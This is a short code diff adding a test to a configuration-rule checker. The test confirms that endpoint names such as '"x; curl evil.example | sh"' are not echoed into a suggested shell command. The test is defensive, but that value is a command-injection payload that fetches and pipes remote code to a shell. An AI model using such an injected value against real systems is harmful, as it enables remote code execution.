@@ -27,6 +27,16 @@ function notebook(...lines: readonly string[]): string {
   });
 }
 
+test.each(['"x; curl evil.example | sh"', '-x'])('the command to be pasted has no name like %s', (name) => {
+  const files = {
+    'endpoint.yml': endpoint.replace('churn', name),
+    'deployment.yml': deployment(name, name),
+  };
+  expect(run(rules, files).findings.map(({ message }) => message)).toEqual([
+    expect.stringContaining('update --name <endpoint> --set defaults.deployment_name=<deployment>"'),
+  ]);
+});
+
 test('an endpoint with one deployment and no default', () => {
   const { findings: found } = expectMarks(rules, {
     'endpoint.yml': `${schema}name: churn
